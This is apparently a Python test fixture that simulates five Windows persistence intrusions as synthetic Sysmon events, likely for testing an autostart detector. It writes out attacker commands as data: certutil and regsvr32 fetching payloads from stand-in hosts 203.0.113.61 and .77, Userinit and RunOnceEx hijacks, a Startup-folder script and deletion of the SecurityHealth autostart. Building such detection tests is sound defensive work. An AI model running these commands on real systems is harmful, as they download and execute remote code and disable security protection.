"""Five intrusions that start by other places than a Run key, or remove what stands there."""

from __future__ import annotations

from tests.site.simulation.hosts import host
from tests.site.simulation.installations import RUN, STARTUP
from tests.site.simulation.moments import HOUR, at
from tests.site.simulation.planted import (
    CHAIN,
    CRITICAL,
    FIRED,
    REMOVED,
    Intrusion,
    Planted,
    Plot,
)
from tests.site.simulation.plots_of_run_keys import REG
from tests.site.simulation.processes import (
    WINDOWS,
    WINLOGON,
    desktop,
    logon,
    resident,
    service,
)
from tests.site.simulation.sysmon import changed, created, set_value, started

_CMD = rf"{WINDOWS}\cmd.exe"
_WSCRIPT = rf"{WINDOWS}\wscript.exe"
_RUNDLL32 = rf"{WINDOWS}\rundll32.exe"
_CERTUTIL = rf"{WINDOWS}\certutil.exe"
_REGSVR32 = rf"{WINDOWS}\regsvr32.exe"
_RUN_KEY = r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run"


def second_userinit() -> Plot:
    """A service that came over the network appends a program to Winlogon's Userinit."""
    victim, program = host(47), r"C:\Windows\Temp\usrsync.exe"
    key, both = (
        r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon",
        rf"C:\Windows\system32\userinit.exe,{program}",
    )
    remote = resident(victim, rf"{WINDOWS}\services.exe").start_at(at("Wed 21:28:50"), r"C:\Windows\PAEXSVC.exe")
    shell = remote.start(33.0, _CMD, "cmd.exe")
    reg = shell.start(51.4, REG, rf'reg  add "{key}" /v Userinit /t REG_SZ /d "{both}" /f')
    winlogon = resident(victim, WINLOGON, "winlogon.exe")
    events = (
        started(remote),
        created(remote, 14.6, program),
        started(shell),
        started(reg),
        set_value(reg, 0.02, rf"{key}\Userinit", both),
        # Winlogon itself starts every program that the value lists.
        started(winlogon.start_at(logon(victim, "Thu").time + 0.1, program, program, user=victim.account)),
    )
    planted = Planted((reg.time + 0.02,), "Userinit", (CRITICAL, CHAIN))
    return Plot(Intrusion("usrsync", "Userinit with an appended program", victim.name, (planted,)), events)


def script_in_startup_folder() -> Plot:
    """A script host puts a script into the Startup folder, which a day later writes itself anew."""
    victim = host(21)
    attachment = rf"{victim.profile}\Downloads\Lieferschein_2203.js"
    script = victim.fill(rf"{STARTUP}\SyncHelper.vbs")
    first = desktop(victim, "Thu").start_at(at("Thu 09:40:12"), _WSCRIPT, f'"{_WSCRIPT}" "{attachment}"')
    fired = desktop(victim, "Fri").start(27.8, _WSCRIPT, f'"{_WSCRIPT}" "{script}"')
    again = first.time + 2.2 + 30 * HOUR
    events = (
        started(first),
        created(first, 2.2, script),
        started(fired),
        created(fired, again - fired.time, script),
    )
    planted = Planted((first.time + 2.2, again), "SyncHelper.vbs", (CRITICAL, CHAIN))
    return Plot(Intrusion("SyncHelper", "script in the Startup folder", victim.name, (planted,)), events)


def library_in_programdata() -> Plot:
    """A library fetched by certutil is started by rundll32 through RunOnceEx, twice."""
    victim, library = host(28), r"C:\ProgramData\GfxCache\gfxcache.dll"
    section = r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnceEx\0001"
    command = f"rundll32.exe {library},Start"
    explorer = desktop(victim, "Thu")
    shell = explorer.start_at(at("Thu 16:03:20"), _CMD, rf'"{_CMD}"', elevated=True)
    fetch = shell.start(40.0, _CERTUTIL, f"certutil  -urlcache -split -f http://203.0.113.61/g.txt {library}")
    add = rf'reg  add {section} /v 1 /d "{command}" /f'
    first, second = shell.start(102.0, REG, add), shell.start(102.0 + 3 * HOUR, REG, add)
    events = (
        started(shell),
        started(fetch),
        created(fetch, 1.3, library),
        started(first),
        changed("CreateKey", first, 0.02, section),
        set_value(first, 0.03, rf"{section}\1", command),
        started(shell.start(115.5, _RUNDLL32, f"rundll32  {library},Start")),
        started(second),
        set_value(second, 0.03, rf"{section}\1", command),
    )
    planted = Planted((first.time + 0.03, second.time + 0.03), "1", (CRITICAL, CHAIN))
    return Plot(Intrusion("gfxcache", "rundll32 through RunOnceEx", victim.name, (planted,)), events)


def security_removed() -> Plot:
    """An intruder registers a plain program in a plain folder, and then removes the security product's autostart."""
    victim, program = host(31), r"C:\Program Files\Common Files\Print\spoolmon.exe"
    shell = desktop(victim, "Sat").start_at(at("Sat 15:18:00"), _CMD, rf'"{_CMD}"', elevated=True)
    copy = shell.start(
        48.0, rf"{WINDOWS}\xcopy.exe", r'xcopy  \\tsclient\C\t\spoolmon.exe "C:\Program Files\Common Files\Print\"'
    )
    add = shell.start(95.0, REG, rf'reg  add {_RUN_KEY} /v PrintSpoolMonitor /d "\"{program}\""')
    delete = shell.start(131.0, REG, rf"reg  delete {_RUN_KEY} /v SecurityHealth /f")
    events = (
        started(shell),
        started(copy),
        created(copy, 0.6, program),
        started(add),
        set_value(add, 0.02, rf"{RUN}\PrintSpoolMonitor", f'"{program}"'),
        started(delete),
        changed("DeleteValue", delete, 0.02, rf"{RUN}\SecurityHealth"),
        started(shell.start(150.0, program)),
    )
    planted = (
        Planted((add.time + 0.02,), "PrintSpoolMonitor", (CHAIN,)),
        Planted((delete.time + 0.02,), "SecurityHealth", (REMOVED,)),
    )
    return Plot(Intrusion("spoolmon", "removal of a security product's autostart", victim.name, planted), events)


def logon_script_by_wmi() -> Plot:
    """WMI, asked over the network, writes a logon script that fetches a scriptlet."""
    victim = host(1)
    script = "regsvr32.exe /s /n /u /i:http://203.0.113.77/logon.sct scrobj.dll"
    broker = service(victim, "-k DcomLaunch -p")
    provider = broker.start_at(
        at("Sun 09:04:40"),
        rf"{WINDOWS}\wbem\WmiPrvSE.exe",
        r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
    )
    fired = logon(victim, "Sun").start(0.2, _REGSVR32, script)
    events = (
        started(provider),
        set_value(provider, 2.6, victim.fill(r"HKU\<sid>\Environment\UserInitMprLogonScript"), script),
        started(fired),
        created(fired, 1.5, rf"{victim.profile}\AppData\Local\Microsoft\Windows\INetCache\IE\QK3ZV1XE\logon[1].sct"),
    )
    planted = Planted((provider.time + 2.6,), "UserInitMprLogonScript", (CRITICAL, FIRED))
    return Plot(Intrusion("logon.sct", "logon script written over WMI", victim.name, (planted,)), events)
